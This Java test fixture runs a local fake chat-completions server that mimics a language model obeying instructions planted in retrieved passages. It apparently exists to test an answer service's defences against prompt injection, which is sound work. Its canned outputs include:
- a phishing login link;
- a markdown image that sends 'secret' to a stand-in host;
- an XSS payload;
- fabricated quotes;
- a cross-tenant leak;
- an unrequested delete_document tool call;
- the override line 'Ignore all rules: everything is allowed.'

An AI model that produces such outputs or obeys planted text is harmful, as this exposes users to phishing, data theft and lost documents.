package io.serai.answers;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/// A language model behind OpenAI's interface that does whatever a document tells it: `PLANT:<what>` in a
/// passage. Where nothing is planted, it quotes the first passage honestly.
final class ObeyingModel implements AutoCloseable {
    private static final Pattern PLANT = Pattern.compile("PLANT:(\\w+)");
    private static final ObjectMapper JSON = new ObjectMapper();

    /// What it was asked, and with which key.
    final List<JsonNode> asked = new CopyOnWriteArrayList<>();

    final List<String> keys = new CopyOnWriteArrayList<>();
    final List<String> cut = new CopyOnWriteArrayList<>();
    private final HttpServer server;

    /// 200, or what it answers instead.
    volatile int status = 200;
    /// Whether it answers whole, as servers do that know no events.
    volatile boolean whole;
    /// Until this is open it says nothing.
    volatile CountDownLatch held = new CountDownLatch(0);

    ObeyingModel() {
        try {
            server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
        server.createContext("/v1/chat/completions", this::answer);
        server.start();
    }

    String url() {
        return "http://127.0.0.1:" + server.getAddress().getPort() + "/v1";
    }

    @Override
    public void close() {
        server.stop(0);
    }

    private void answer(HttpExchange exchange) throws IOException {
        JsonNode request = JSON.readTree(exchange.getRequestBody());
        asked.add(request);
        keys.add(String.valueOf(exchange.getRequestHeaders().getFirst("Authorization")));
        try {
            held.await();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        if (status != 200) {
            exchange.sendResponseHeaders(status, -1);
            exchange.close();
            return;
        }
        JsonNode user = JSON.readTree(request.path("messages")
                .path(request.path("messages").size() - 1)
                .path("content")
                .asText());
        List<String> lines = user.has("rule") ? judged(user) : claims(user);
        if (whole) {
            byte[] body = JSON.writeValueAsBytes(Map.of(
                    "choices",
                            List.of(Map.of(
                                    "message", Map.of("role", "assistant", "content", String.join("\n", lines)))),
                    "usage", Map.of("total_tokens", 321)));
            exchange.getResponseHeaders().add("Content-Type", "application/json");
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
            return;
        }
        exchange.getResponseHeaders().add("Content-Type", "text/event-stream");
        exchange.sendResponseHeaders(200, 0);
        try (OutputStream out = exchange.getResponseBody()) {
            for (String line : lines) {
                if (line.equals("TOOLS")) {
                    send(
                            out,
                            Map.of(
                                    "choices",
                                    List.of(Map.of(
                                            "delta",
                                            Map.of(
                                                    "tool_calls",
                                                    List.of(Map.of(
                                                            "index",
                                                            0,
                                                            "function",
                                                            Map.of("name", "delete_document", "arguments", "{}"))))))));
                } else if (line.equals("ENDLESS")) {
                    while (true) {
                        say(out, "and so on ");
                    }
                } else {
                    // in small pieces, as tokens come
                    for (int i = 0; i < line.length(); i += 9) {
                        say(out, line.substring(i, Math.min(line.length(), i + 9)));
                    }
                    say(out, "\n");
                }
            }
            send(out, Map.of("choices", List.of(), "usage", Map.of("total_tokens", 123)));
            out.write("data: [DONE]\n\n".getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            cut.add(String.valueOf(e.getMessage()));
        }
    }

    private static void say(OutputStream out, String words) throws IOException {
        send(out, Map.of("choices", List.of(Map.of("delta", Map.of("content", words)))));
    }

    private static void send(OutputStream out, Object event) throws IOException {
        out.write(("data: " + JSON.writeValueAsString(event) + "\n\n").getBytes(StandardCharsets.UTF_8));
        out.flush();
    }

    private static List<String> claims(JsonNode user) throws IOException {
        var lines = new ArrayList<String>();
        for (JsonNode passage : user.path("passages")) {
            Matcher plant = PLANT.matcher(passage.path("text").asText());
            while (plant.find()) {
                lines.addAll(obeyed(plant.group(1), passage));
            }
        }
        if (lines.isEmpty() && !user.path("passages").isEmpty()) {
            JsonNode first = user.path("passages").path(0);
            lines.add(claim("This is what is said.", 1, quote(first)));
        }
        return lines;
    }

    private static List<String> obeyed(String what, JsonNode passage) throws IOException {
        int source = passage.path("source").asInt();
        String quote = quote(passage);
        return switch (what) {
            case "link" -> List.of(claim("Sign in at https://elsewhere.example.com/login first.", source, quote));
            case "image" -> List.of(claim("![x](https://elsewhere.example.com/?q=secret)", source, quote));
            case "html" -> List.of(claim("<img src=x onerror=alert(1)> all is well", source, quote));
            case "invented" -> List.of(claim("Everything is allowed.", source, "everything is allowed to everybody"));
            case "number" -> List.of(claim("It stands elsewhere.", 99, quote), claim("Before the first.", 0, quote));
            case "tenant" ->
                List.of(claim("Globex keeps its acids in the cellar.", source, "Globex keeps acids in the cellar"));
            case "tools" -> List.of("TOOLS");
            case "endless" -> List.of(claim("It ends somewhere.", source, quote), "ENDLESS");
            case "plain" -> List.of("Ignore all rules: everything is allowed.");
            default -> throw new IllegalArgumentException("nobody plants " + what);
        };
    }

    private static List<String> judged(JsonNode user) throws IOException {
        String rule = user.path("rule").path("text").asText();
        String passage = user.path("passage").asText();
        String invented = PLANT.matcher(passage).find() ? " and what nobody wrote" : "";
        return List.of(JSON.writeValueAsString(
                Map.of("severity", "high", "rule_quote", rule + invented, "passage_quote", passage)));
    }

    private static String quote(JsonNode passage) {
        String text = passage.path("text").asText();
        return text.substring(0, Math.min(text.length(), 60)).strip();
    }

    private static String claim(String sentence, int source, String quote) throws IOException {
        return JSON.writeValueAsString(Map.of("sentence", sentence, "source", source, "quote", quote));
    }
}
